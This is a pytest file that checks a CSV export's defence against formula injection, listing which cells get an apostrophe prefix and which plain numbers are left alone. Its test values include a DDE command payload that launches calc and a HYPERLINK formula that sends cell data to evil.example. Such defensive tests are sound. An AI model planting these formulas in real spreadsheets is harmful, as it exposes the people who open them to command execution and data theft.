"""The CSV export's cell rule (SPEC §8, OWASP's CSV-injection rule), as a table."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from ringback.ops.csv_export import csv_cell, csv_lines
from ringback.ops.model import CsvRow


@pytest.mark.parametrize(
    ("value", "written"),
    [
        # plain numbers stay as they are, whatever their sign
        ("+33612345678", "+33612345678"),
        ("-12.5", "-12.5"),
        ("-7", "-7"),
        ("+.5", "+.5"),
        ("12", "12"),
        # a cell that does not start with a formula character is never touched
        ("1.2.3", "1.2.3"),
        ("", ""),
        (None, ""),
        ("abc=1", "abc=1"),
        ("2024-05-01T12:00:00.000Z", "2024-05-01T12:00:00.000Z"),
        # the formula starts
        ("-2+3", "'-2+3"),
        ("=1", "'=1"),
        ("@x", "'@x"),
        ("\t", "'\t"),
        ("\r", "'\r"),
        ("\tabc", "'\tabc"),
        ("\r=1", "'\r=1"),
        ("+", "'+"),
        ("-", "'-"),
        ("+1.2.3", "'+1.2.3"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        (
            '+HYPERLINK("http://evil.example/?x="&A1,"c")',
            '\'+HYPERLINK("http://evil.example/?x="&A1,"c")',
        ),
        ("-1+1", "'-1+1"),
        ("+336 12 34 56 78", "'+336 12 34 56 78"),
        # only ASCII digits make a number: a spreadsheet reads no other script's digits
        ("+\u0661\u0662", "'+\u0661\u0662"),
        ("-\u00b9", "'-\u00b9"),
        # a trailing newline is not part of a number
        ("+1\n", "'+1\n"),
    ],
)
def test_a_cell_is_neutralized_unless_it_is_a_plain_number(value: str | None, written: str) -> None:
    assert csv_cell(value) == written


def test_every_column_of_a_line_goes_through_the_rule() -> None:
    at = dt.datetime(2024, 5, 1, 12, tzinfo=dt.UTC)
    row = CsvRow(
        id=1,
        source="+src",
        external_id="+HYPERLINK(1)",
        direction="-dir",
        disposition="@disp",
        caller_phone_number="+33612345678",
        occurred_at=at,
        created_at=at,
        outcome="=out",
        template_type="\ttype",
        customer_id=2,
        reservation_id=None,
        message_status="\rstatus",
        message_attempts=3,
        recovered_at=None,
    )
    (cells,) = list(csv.reader(io.StringIO(csv_lines([row]))))
    assert cells[1:6] == ["'+src", "'+HYPERLINK(1)", "'-dir", "'@disp", "+33612345678"]
    assert cells[8:10] == ["'=out", "'\ttype"]
    assert cells[12:14] == ["'\rstatus", "3"]
